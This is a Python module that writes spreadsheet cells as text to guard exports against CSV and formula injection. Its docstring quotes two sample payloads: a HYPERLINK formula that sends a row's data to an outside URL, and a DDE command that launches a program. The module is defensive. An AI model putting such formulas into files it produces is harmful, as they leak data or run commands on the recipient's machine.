"""Text coopcore writes into spreadsheets stays text: never a formula in an .xlsx, neutralised in a .csv.

A member named `=HYPERLINK("http://…?d="&B2,"点此")` or `=cmd|' /C calc'!A0` must reach the office as that
name, not as a link that leaks the row or a command Excel offers to run (CSV injection, OWASP). openpyxl makes
every str that starts with "=" a formula (and "#N/A" an error value): every text cell is written through
`text_cell`, which types it as text. A CSV has no types, so text cells that a spreadsheet would read as a
formula get a leading apostrophe, as OWASP recommends; numbers (negative amounts too) stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# openpyxl ships no type hints, and types-openpyxl is not among our dependencies.
from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped]

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(worksheet: Any, value: object) -> Any:
    """Return a write-only cell of the worksheet holding the value; a str is always a text cell."""
    cell = WriteOnlyCell(worksheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # not "f" (formula) or "e" (error), whatever the text starts with
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True  # Excel keeps it text even when someone edits the cell
    return cell


def text_row(worksheet: Any, values: Iterable[object]) -> list[object]:
    """Return a row for `worksheet.append`: text values as text cells, other values as they are."""
    return [text_cell(worksheet, value) if isinstance(value, str) else value for value in values]


def csv_text(value: str) -> str:
    """Return a CSV text cell no spreadsheet will run: a leading ' before = + - @ tab or CR."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value
